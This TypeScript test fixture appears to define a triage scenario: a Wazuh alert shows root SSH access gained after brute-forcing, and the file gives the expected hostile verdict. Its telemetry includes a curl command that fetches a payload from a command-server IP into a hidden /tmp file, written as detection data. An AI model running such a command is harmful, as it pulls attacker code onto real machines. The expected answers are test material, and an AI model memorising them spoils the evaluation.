// A Wazuh alert with the log line in it: after many failures a password for root was accepted.
import { alert, hostile, loggedOn, ran, situation } from '../../shorthand.ts'

export const rootPasswordAcceptedWazuh = situation(
  'root-password-accepted-wazuh',
  'formats',
  'A root password accepted after many refused ones',
  (setting) => {
    const server = setting.machine('srv-web-01')
    const at = setting.ago({ minutes: 36 })
    const ip = '92.118.39.74'
    return {
      alerts: [
        alert(setting, at, 'wazuh', 'sshd: authentication success after multiple failures', {
          timestamp: setting.iso(at).replace('Z', '+0000'),
          rule: {
            level: 12,
            description: 'Multiple authentication failures followed by a success.',
            id: '40112',
            mitre: { id: ['T1078', 'T1110'], tactic: ['Initial Access'], technique: ['Valid Accounts', 'Brute Force'] },
            groups: ['syslog', 'attacks', 'authentication_success'],
          },
          agent: { id: '014', name: server.host, ip: server.ip },
          manager: { name: 'wazuh-mgr-01' },
          decoder: { parent: 'sshd', name: 'sshd' },
          data: { srcip: ip, srcport: '50122', dstuser: 'root' },
          full_log: `${server.host} sshd[20114]: Accepted password for root from ${ip} port 50122 ssh2`,
          location: 'journald',
        }),
      ],
      facts: {
        telemetry: [
          loggedOn(server, at, 'root', { LogonType: 'RemoteInteractive', RemoteIP: ip, RemoteIPType: 'Public' }),
          ran(server, at + 45_000, 'curl', 'curl -s -o /tmp/.x http://45.138.16.203/x', {
            AccountName: 'root',
            InitiatingProcessFileName: 'bash',
          }),
        ],
      },
      expected: {
        ...hostile(server.host),
        severities: ['high', 'critical'],
        forbidden: [{ action: 'isolate-machine', target: 'wazuh-mgr-01' }],
      },
      because:
        'An address that tries passwords everywhere today got in as root, and a file was fetched from a command server within a minute.',
    }
  },
)
